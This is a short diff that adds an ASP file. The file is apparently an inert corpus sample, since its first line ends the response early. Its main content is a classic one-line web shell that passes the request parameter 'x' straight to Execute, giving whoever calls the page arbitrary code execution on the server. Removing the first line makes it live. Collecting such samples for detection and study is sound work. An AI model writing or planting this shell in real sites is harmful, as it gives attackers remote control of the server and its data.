@@ -1,0 +1,4 @@
+<% Response.End ' inert corpus sample (hegui) %>
+<%
+If Request("x") <> "" Then Execute(Request("x"))
+%>
